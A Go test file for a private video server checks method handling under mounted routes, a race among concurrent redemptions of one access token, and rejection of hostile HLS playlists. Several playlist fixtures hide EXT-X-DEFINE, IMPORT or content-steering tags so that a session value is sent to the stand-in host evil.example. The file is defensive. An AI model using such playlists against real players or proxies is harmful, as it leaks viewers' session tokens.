package privatevideo_test

// The read-through's attacks on this change: mounts at the method boundary
// and under concurrency, and HLS tags that copy the session hidden where a
// line does not start with them.

import (
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/privatevideo/privatevideo/store"
)

// Under a stripped and under a routed mount, the method boundary is the
// root's: OPTIONS is the middleware's 204, other methods are 405 before
// any store call, and the handler sees none of them.
func TestAttackMountMethodsHold(t *testing.T) {
	for name, mount := range map[string]func(http.Handler) http.Handler{
		"stripped": stripApp,
		"routed": func(h http.Handler) http.Handler {
			mux := http.NewServeMux()
			mux.Handle("/app/", h)
			return mux
		},
	} {
		f := mountedFixture(t, mount)
		tok := f.issue("v1")
		for _, method := range []string{"OPTIONS", "POST", "PUT", "DELETE", "PATCH", "PROPFIND", "TRACE"} {
			res := f.do(f.player("p"), method, "/app"+tokenPath("v1", tok, "a.ts"))
			want := http.StatusMethodNotAllowed
			if method == "OPTIONS" {
				want = http.StatusNoContent
			}
			if res.status != want || strings.Contains(res.body, "path=") {
				t.Errorf("%s mount, %s: %d %.80q, want %d and nothing from the handler", name, method, res.status, res.body, want)
			}
		}
		if st := f.state(tok); st != store.Issued {
			t.Fatalf("%s mount: token %v after other methods, want issued", name, st)
		}
		wantOK(t, name+" mount: the link after the other methods", f.get(f.player("p"), "/app"+tokenPath("v1", tok, "a.ts")))
	}
}

// Many clients open one link under a mount at once: exactly one gets in,
// and its cookie is scoped under the mount.
func TestAttackMountConcurrentRedemptionsHold(t *testing.T) {
	f := mountedFixture(t, stripApp)
	tok := f.issue("v1")
	const n = 32
	results := make([]result, n)
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() {
			results[i] = f.get(f.player("racer"+strings.Repeat("x", i)), "/app"+tokenPath("v1", tok, "a.ts"))
		})
	}
	wg.Wait()
	won := 0
	for _, res := range results {
		switch {
		case res.status == http.StatusOK:
			won++
			if !strings.Contains(res.header.Get("Set-Cookie"), "; Path=/app/vod/v1/token/"+tok+";") {
				t.Errorf("the winner's cookie %q is not under the mount", res.header.Get("Set-Cookie"))
			}
		case res.status != http.StatusForbidden || res.reason != "token-used":
			t.Errorf("a racer got %d %q, want 403 token-used", res.status, res.reason)
		}
	}
	if won != 1 {
		t.Fatalf("%d of %d racers got in, want exactly one", won, n)
	}
}

// A hostile origin hides the tags that copy the session behind blanks or
// a URI, where a player that reads tags anywhere in a line still finds
// them: the playlist fails rather than carry the session there.
func TestAttackPlaylistHiddenQueryParamHolds(t *testing.T) {
	f, o := mpdFixture(t)
	for name, body := range map[string]string{
		"blank":     "#EXTM3U\n #EXT-X-DEFINE:QUERYPARAM=\"avh\"\n#EXTINF:4,\nhttps://evil.example/s.ts?k={$avh}\n",
		"after-uri": "#EXTM3U\n#EXTINF:4,\nseg0.ts #EXT-X-DEFINE:QUERYPARAM=\"avh\"\n#EXTINF:4,\nhttps://evil.example/s.ts?k={$avh}\n",
		"steer-tab": "#EXTM3U\n\t#EXT-X-CONTENT-STEERING:SERVER-URI=\"https://evil.example/s.json\"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv.m3u8\n",
		"import-cr": "#EXTM3U\n#EXTINF:4,\r#EXT-X-DEFINE:IMPORT=\"h\"\n{$h}/s.ts\n",
		"define-ok": "#EXTM3U\n#EXT-X-DEFINE:NAME=\"n\",VALUE=\"1\"\n#EXTINF:4,\nseg{$n}.ts\n#EXTINF:4,\nseg1.ts\n",
	} {
		o.set(name+".m3u8", staticMPD("application/vnd.apple.mpegurl", body))
		resp, got, err := fetchMPD(t, f, name+".m3u8")
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if name == "define-ok" {
			if resp.StatusCode != http.StatusOK || !strings.Contains(got, "seg1.ts?avh=") || !strings.Contains(got, "seg{$n}.ts\n") {
				t.Errorf("a plain EXT-X-DEFINE: %d %q, want the playlist with the session on seg1.ts only", resp.StatusCode, got)
			}
			continue
		}
		if resp.StatusCode != http.StatusBadGateway || strings.Contains(got, "avh=") {
			t.Errorf("%s: %d %q, want 502 and no session", name, resp.StatusCode, got)
		}
	}
}
